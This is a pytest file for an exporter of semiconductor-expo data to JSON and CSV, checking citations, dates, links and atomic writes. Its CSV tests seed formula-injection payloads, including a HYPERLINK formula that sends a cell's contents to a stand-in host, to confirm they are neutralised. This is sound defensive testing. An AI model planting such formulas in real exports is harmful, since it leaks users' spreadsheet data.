"""Export contract: the JSON document and the CSV file."""
from __future__ import annotations

import csv
import datetime as dt
import json
import sqlite3

import pytest

from db.exporters import export_csv, export_json, safe_cell
from db.expo import open_expo

KEYS = ("expo", "zones", "halls", "booths", "exhibitors", "products", "topics", "events",
        "people", "quotes", "links", "sources")
CITING = ("exhibitors", "products", "topics", "events", "quotes", "links")


def test_json_has_all_sections(export_doc):
    assert set(KEYS) <= set(export_doc)
    for key in KEYS[1:]:
        assert isinstance(export_doc[key], list) and export_doc[key], key
    assert export_doc["expo"]["slug"] == "wesemibay-2025"


def test_json_expo_metadata(export_doc):
    expo = export_doc["expo"]
    assert expo["schematic"] is True
    assert expo["synthetic"] is False
    assert expo["start_date"] == "2025-10-15"
    assert expo["edition"] == 2
    assert expo["sources"]


@pytest.mark.parametrize("section", CITING)
def test_every_fact_record_cites_existing_sources(export_doc, section):
    source_ids = {s["id"] for s in export_doc["sources"]}
    for rec in export_doc[section]:
        srcs = rec["sources"]
        assert isinstance(srcs, list) and srcs, (section, rec)
        assert set(srcs) <= source_ids, (section, rec)


def test_sources_have_titles(export_doc):
    ids = [s["id"] for s in export_doc["sources"]]
    assert len(ids) == len(set(ids))
    assert all(s["title"].strip() for s in export_doc["sources"])


def test_events_have_dates_at_their_precision_and_a_side(export_doc):
    for ev in export_doc["events"]:
        # Reduced ISO 8601 at the stated precision: "2014", "2025-10", "2025-10-15".
        assert ev["date_precision"] in ("day", "month", "year"), ev
        assert len(ev["date"]) == {"year": 4, "month": 7, "day": 10}[ev["date_precision"]], ev
        day = ev["date"] + "-01" * (3 - len(ev["date"].split("-")))
        assert dt.date.fromisoformat(day), ev
        assert ev["side"] in ("us", "china", "expo"), ev
    dates = [ev["date"] for ev in export_doc["events"]]
    assert dates == sorted(dates)
    big_fund_i = next(ev for ev in export_doc["events"] if ev["slug"] == "big-fund-i")
    assert (big_fund_i["date"], big_fund_i["date_precision"]) == ("2014", "year")


def test_links_have_a_reason_and_existing_ends(export_doc):
    keys = {
        "exhibitor": {r["slug"] for r in export_doc["exhibitors"]},
        "product": {r["slug"] for r in export_doc["products"]},
        "organisation": {r["slug"] for r in export_doc["organisations"]},
        "topic": {r["slug"] for r in export_doc["topics"]},
        "event": {r["slug"] for r in export_doc["events"]},
    }
    for ln in export_doc["links"]:
        assert ln["reason"].strip(), ln
        assert ln["from"] in keys[ln["from_kind"]], ln
        assert ln["to"] in keys[ln["to_kind"]], ln


def test_minimum_content(export_doc):
    assert len(export_doc["topics"]) >= 8
    assert len(export_doc["events"]) >= 20
    assert len(export_doc["links"]) >= 12
    assert len(export_doc["exhibitors"]) == 11   # 9 with a booth, 2 without (H2, H3)
    assert len(export_doc["booths"]) >= 600


def test_booths_name_their_occupants(export_doc):
    sicarrier = next(e for e in export_doc["exhibitors"] if e["slug"] == "sicarrier")
    (code,) = sicarrier["booths"]
    booth = next(b for b in export_doc["booths"] if b["code"] == code)
    assert booth["exhibitors"] == ["sicarrier"]
    assert "Xinkailai" in sicarrier["aliases"]


def test_export_json_overwrites_atomically(built_expo, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "out.json"
    out.write_text("stale", encoding="utf-8")
    with open_expo(built_expo, readonly=True) as expo:
        export_json(expo, out)
    assert json.loads(out.read_text(encoding="utf-8"))["expo"]["short_zh"] == "湾芯展"
    assert [p.name for p in folder.iterdir()] == ["out.json"]  # no temp files left


# ---------------------------------------------------------------------- CSV
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"x\")",
                                   "\t=1", "\r=1"])
def test_safe_cell_neutralises_formulas(value):
    cell = safe_cell(value)
    assert cell == "'" + value
    assert cell[0] not in "=+-@\t\r"


@pytest.mark.parametrize("value, expected", [("SiCarrier", "SiCarrier"), ("新凯来", "新凯来"),
                                             (None, ""), (3, "3"), ("a=b", "a=b"), ("", "")])
def test_safe_cell_leaves_ordinary_values(value, expected):
    assert safe_cell(value) == expected


def _read_csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_of_builtin_expo(built_expo, tmp_path):
    out = tmp_path / "expo.csv"
    with open_expo(built_expo, readonly=True) as expo:
        export_csv(expo, out)
        code = expo.booths_of("sicarrier")[0]
    rows = _read_csv(out)
    # one row per product plus one per exhibitor without products: 6 + 9
    assert len(rows) == 15
    sic = [r for r in rows if r["exhibitor_id"] == "sicarrier"]
    assert {r["product_id"] for r in sic} == {"sicarrier-emei", "sicarrier-wuyi",
                                              "sicarrier-changbai", "sicarrier-putuo",
                                              "sicarrier-alishan"}
    assert all(r["company_zh"] == "新凯来" and r["booth"] == code and r["hall"] == "area-1"
               and r["layout"] == "schematic" for r in sic)
    assert all(r["sources"].strip() for r in rows)
    edwards = next(r for r in rows if r["exhibitor_id"] == "edwards")
    assert edwards["product_id"] == "" and edwards["description"]


def test_csv_neutralises_formulas_end_to_end(expo_copy, tmp_path):
    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
    conn = sqlite3.connect(expo_copy)
    conn.execute("UPDATE exhibitors SET name = ? WHERE slug = 'sicarrier'", (evil,))
    conn.execute("UPDATE exhibitors SET summary = '@SUM(1+1)*cmd' WHERE slug = 'edwards'")
    conn.execute("UPDATE exhibitors SET category = '+1-2' WHERE slug = 'merck'")
    conn.execute("UPDATE products SET name = '-2+3' WHERE slug = 'sicarrier-wuyi'")
    conn.commit()
    conn.close()
    out = tmp_path / "evil.csv"
    with open_expo(expo_copy, readonly=True) as expo:
        export_csv(expo, out)
    rows = _read_csv(out)
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
    sic = [r for r in rows if r["exhibitor_id"] == "sicarrier"]
    assert sic and all(r["company"] == "'" + evil for r in sic)
    assert next(r for r in rows if r["exhibitor_id"] == "edwards")["description"] == \
        "'@SUM(1+1)*cmd"
    assert next(r for r in rows if r["exhibitor_id"] == "merck")["category"] == "'+1-2"
    assert next(r for r in rows if r["product_id"] == "sicarrier-wuyi")["product"] == "'-2+3"
